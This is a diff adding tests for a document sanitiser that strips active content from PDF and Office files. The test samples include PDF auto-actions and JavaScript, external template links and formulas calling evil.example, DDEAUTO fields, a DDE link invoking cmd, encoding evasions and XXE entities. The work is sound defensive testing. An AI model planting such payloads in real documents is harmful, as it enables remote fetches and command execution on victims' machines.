@@ -2,6 +2,7 @@ import io
 import time
 import zipfile
 import zlib
+from contextlib import suppress
 
 import pypdf
 from pypdf.generic import DictionaryObject, NameObject, TextStringObject
@@ -61,6 +62,53 @@ class TestPapersActive(BaseCase):
         start = kept.index(b"stream\n") + len(b"stream\n")
         self.assertNotIn(b"/JavaScript", zlib.decompressobj().decompress(kept[start:]))
 
+    def test_pdf_begins_nothing(self):
+        """Whatever would happen by itself: a page that is opened, a file of another machine."""
+        writer = pypdf.PdfWriter()
+        writer.add_blank_page(100, 100)
+        link = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("x")}
+        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(link)
+        file = {NameObject("/S"): NameObject("/GoToE"), NameObject("/F"): TextStringObject("//x/y")}
+        opened = DictionaryObject({NameObject("/O"): DictionaryObject(file)})
+        writer.pages[0][NameObject("/AA")] = opened
+        played = {
+            NameObject("/S"): NameObject("/Rendition"),
+            NameObject("/JS"): TextStringObject("x"),
+        }
+        writer.root_object[NameObject("/Play")] = DictionaryObject(played)
+        written = io.BytesIO()
+        writer.write(written)
+        reader = pypdf.PdfReader(io.BytesIO(papers.nameless(written.getvalue(), papers.PDF)))
+        for name in ("/OpenAction", "/AA", "/GoToE", "/JS"):
+            self.assertNotIn(f"'{name}'", f"{reader.root_object} {reader.pages[0]}")
+
+    def test_packed_streams_of_a_pdf_that_hide(self):
+        """What cannot be looked through is refused, for programs that show it may read it."""
+        objects = b"2 0 <</S/JavaScript/JS(x)>>"
+        good = zlib.compress(objects)
+        stored = zlib.compress(b"2 0 % \nendstream\n <</S/JavaScript/JS(x)>>", 0)
+        large = zlib.compress(objects + b" " * papers.MOST_STREAM)
+        head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n"
+        for how, content in (
+            ("cut off", head + good[:-5]),
+            ("another check sum", head + good[:-1] + bytes([good[-1] ^ 1])),
+            ("an end within it", head + stored),
+            ("more than is unpacked", head + large),
+            ("in numbers", head.replace(b"/ObjStm", b"/Obj#53tm") + good),
+            ("a dictionary behind it", head.replace(b">>", b"/X<</Y 1>>>>") + good),
+            ("a remark behind it", head.replace(b">>", b">> %x\n") + good),
+            ("packed twice", head.replace(b"/FlateDecode", b"[/FlateDecode/FlateDecode2]") + good),
+            ("rows of differences", head.replace(b"<<", b"<</DecodeParms<</Predictor 2>>") + good),
+            ("in letters", head.replace(b"/FlateDecode", b"/ASCIIHexDecode") + good.hex().encode()),
+            ("without an end", head + good.replace(b"endstream", b"")),
+        ):
+            end = b"" if how == "without an end" else b"\nendstream"
+            with self.subTest(how), self.assertRaises(papers.PaperError):
+                papers.nameless(samples.PDF + b"1 0 obj" + content + end, papers.PDF)
+        secret = bytes(range(40, 90)) * 3  # as if it were encrypted
+        kept = papers.nameless(samples.PDF + head + secret + b"\nendstream", papers.PDF)
+        self.assertIn(secret, kept)
+
     def test_words_about_it_stay(self):
         """What a document says in its text is no action, and what it links to is clicked."""
         text = b"BT (/JavaScripts are fun) Tj ET /URI /GoTo"
@@ -105,6 +153,63 @@ class TestPapersActive(BaseCase):
         with self.assertRaises(papers.PaperError):
             papers.nameless(written.getvalue(), OFFICE)
 
+    def test_office_that_is_read_letter_by_letter(self):
+        """References as XML has them, not as a pattern does; other alphabets are refused."""
+        kind, evil = f"{_RELATION}attachedTemplate", "https://evil.example/t.dotm"
+        for relation in (
+            f'<Relationship Type="{kind}" Target="{evil}?>" TargetMode="External"/>',
+            f'<Relationship Type="{kind}" Target="{evil}{"x" * 9000}" TargetMode="External"/>',
+            f'<Relationship Type="{kind}" Target="{evil}" TargetMode{" " * 50}="External"/>',
+            f'<ré:Relationship Type="{kind}" Target="{evil}" TargetMode="External"/>',
+            f'<!-- > --><Relationship\nTargetMode="External" Target="{evil}" Type="{kind}"/>',
+        ):
+            with self.subTest(relation[:60]):
+                kept = active.at_home(f"<x>{relation}</x>".encode())
+                self.assertNotIn(b"evil", kept)
+                self.assertIn(b'"about:blank"', kept)
+        for content in (
+            b'<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationship/+AD4-',
+            b'<?xml version="1.0" encoding="cp037"?>' + "<Relationship/>".encode("cp037"),
+            "<?xml version='1.0'?><Relationship/>".encode("cp037"),
+            b"<Relationship",
+            f'<Relationship Type="{_RELATION}aFChunk" Target="x.mht"/>'.encode(),
+        ):
+            with self.subTest(content[:60]), self.assertRaises(active.Unreadable):
+                active.at_home(content)
+
+    def test_fields_and_formulas(self):
+        """Nor by a field of Word or a formula of Excel; what was shown of it stays."""
+        evil, begin = '"https://evil.example/"', '<w:fldChar w:fldCharType="begin"/>'
+        for part in (
+            f"{begin}<w:instrText> INCLUDEPICTURE {evil} \\d </w:instrText>",
+            f"{begin}<w:instrText>incl</w:instrText><w:instrText>udetext {evil}</w:instrText>",
+            f"<w:instrText>PAGE</w:instrText>{begin}<w:instrText>DDEAUTO evil x</w:instrText>",
+            f"{begin}<w:instrText><![CDATA[ LI]]>&#78;K evil</w:instrText>",
+            "<w:fldSimple w:instr='&#68;DE evil'/>",
+            "<w:mailMerge><w:connectString w:val='evil'/><w:query w:val='evil'/></w:mailMerge>",
+            f"<f>_xlfn.WEBSERVICE({evil.replace('"', '&quot;')})</f>",
+            "<f t='array'>I<!-- -->MAGE(&quot;evil&quot;)</f>",
+            "<x14:f>RTD(&quot;evil&quot;)</x14:f>",
+            "<ddeLink ddeService='cmd' ddeTopic='/c evil'/>",
+            "<connection odcFile='evil'><dbPr connection='evil'/><webPr url='evil'/></connection>",
+        ):
+            with self.subTest(part):
+                kept = active.at_home(f"<x>{part}<w:t>shown</w:t></x>".encode())
+                self.assertNotIn(b"evil", kept)
+                self.assertIn(b"<w:t>shown</w:t></x>", kept)
+                self.assertEqual(active.at_home(kept), kept)
+        for part in (
+            f"{begin}<w:instrText> HYPERLINK {evil} </w:instrText>",
+            f"{begin}<w:instrText> TOC </w:instrText><w:t> LINK </w:t>",
+            "<f>SUM(A1)</f><t>WEBSERVICE(x)</t>",
+        ):
+            with self.subTest(part):
+                self.assertEqual(
+                    active.at_home(f"<x>{part}</x>".encode()), f"<x>{part}</x>".encode()
+                )
+        with self.assertRaises(active.Unreadable):
+            active.at_home(b"<x><instrText>D<instrText>DE</instrText></instrText></x>")
+
     def test_office_with_a_grammar_of_its_own(self):
         """Nothing is fetched by it, and nothing multiplied: no program for offices writes one."""
         for words in ('SYSTEM "https://evil.example/x.dtd"', '[<!ENTITY a "aaaa">]'):
@@ -115,10 +220,23 @@ class TestPapersActive(BaseCase):
                 papers.nameless(written.getvalue(), OFFICE)
 
     def test_it_costs_little(self):
-        for piece in (b"/Java", b"/#4a", b"/#", b"<Relationship ", b'Target="', b"/JavaScript"):
+        for piece in (b"/Java", b"/#4a", b"/#", b"/JavaScript"):
             began = time.process_time()
             papers.nameless(samples.PDF + piece * (2 * MEGABYTE // len(piece)), papers.PDF)
             self.assertLess(time.process_time() - began, 4, piece)
-            began = time.process_time()
-            active.at_home(piece * (2 * MEGABYTE // len(piece)))
-            self.assertLess(time.process_time() - began, 4, piece)
+        for piece in (
+            *(
+                b"<Relationship ",
+                b'Target="',
+                b"<Relationship/>",
+                b"<a x='",
+                b"<instrText/>",
+                b"&#",
+            ),
+            *(b"<", b" ", b"IMAGE", b"\xef\xbb\xbf", b"<f>IMAGE(</f>", b"a" * 1000 + b" "),
+        ):
+            for before, after in ((b"", b""), (b"<x>", b"</x>"), (b"<x:Relationship ", b"/>")):
+                began = time.process_time()
+                with suppress(active.Unreadable):
+                    active.at_home(before + piece * (2 * MEGABYTE // len(piece)) + after)
+                self.assertLess(time.process_time() - began, 4, piece)
